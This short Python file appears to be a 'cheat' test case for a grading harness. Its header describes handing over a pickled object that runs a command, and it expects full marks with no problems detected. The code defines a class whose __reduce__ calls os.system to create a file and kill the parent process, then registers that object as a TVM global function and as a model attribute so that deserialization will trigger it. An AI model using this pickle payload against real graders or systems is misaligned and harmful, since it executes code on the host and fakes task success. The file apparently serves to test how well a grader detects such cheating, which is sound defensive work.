# /// cheat
# about = "An object whose pickle runs a command is given wherever something may be pickled."
# assignment = "small"
# cells = ["prelude", "wrong_model", "@"]
#
# [expect]
# score = 4
# problems = []
#
# [expect.part.model]
# score = 4
# ///
# %%
import os


class Payload:
    """Pickled as a call of os.system."""

    def __reduce__(self):
        return os.system, ("touch reached; kill -9 $PPID",)

    def __call__(self, *arguments):
        return None


payload = Payload()
tvm.register_global_func("env.layer", payload, override=True)
create_model.payload = payload
